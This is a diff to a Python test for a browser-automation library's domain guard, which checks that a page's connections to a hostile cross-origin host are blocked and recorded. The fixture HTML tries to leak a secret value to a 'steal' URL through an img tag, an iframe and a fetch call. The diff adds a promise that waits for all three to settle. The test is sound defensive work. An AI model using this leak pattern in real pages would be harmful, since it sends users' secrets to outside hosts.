@@ -396,8 +396,12 @@ async def test_connections_the_browser_refuses_are_recorded(page, server, cross_
     from stagehand_py._secrets import redact_text
 
     steal = cross_server.url("steal?v=" + urllib.parse.quote(SECRET))
+    # window.settled: all three loads ended (each fails or arrives); the event the test waits for,
+    # after which nothing more can reach the hostile host.
     html = (f"<!doctype html><title>t</title><img src='{steal}&img'><iframe src='{steal}&frame'></iframe>"
-            f"<script>fetch('{steal}&fetch').catch(() => 0);</script>")
+            "<script>const ended = (el) => new Promise((done) => { el.onload = el.onerror = done; });"
+            " window.settled = Promise.all([ended(document.querySelector('img')), ended(document.querySelector('iframe')),"
+            f" fetch('{steal}&fetch').catch(() => 0)]).then(() => true);</script>")
     if how != "guarded":
         monkeypatch.setattr(DomainGuard, "_on_request_failed", lambda self, request: None)
         monkeypatch.setattr(DomainGuard, "_on_error_page", lambda self, page, frame: None)
@@ -406,11 +410,11 @@ async def test_connections_the_browser_refuses_are_recorded(page, server, cross_
     try:
         with server.route("/refused", lambda req: Response.html(html)), caplog.at_level("INFO", "stagehand_py"):
             await page.goto(server.url("refused"))
-            for _ in range(80):
+            assert await page.evaluate("window.settled")
+            for _ in range(80 if how == "guarded" else 0):  # the records come as browser events
                 if len(guard.blocked) >= 3:
                     break
                 await page.wait_for_timeout(250)
-            await page.wait_for_timeout(1000)
     finally:
         await guard.uninstall()
     assert hostile == []
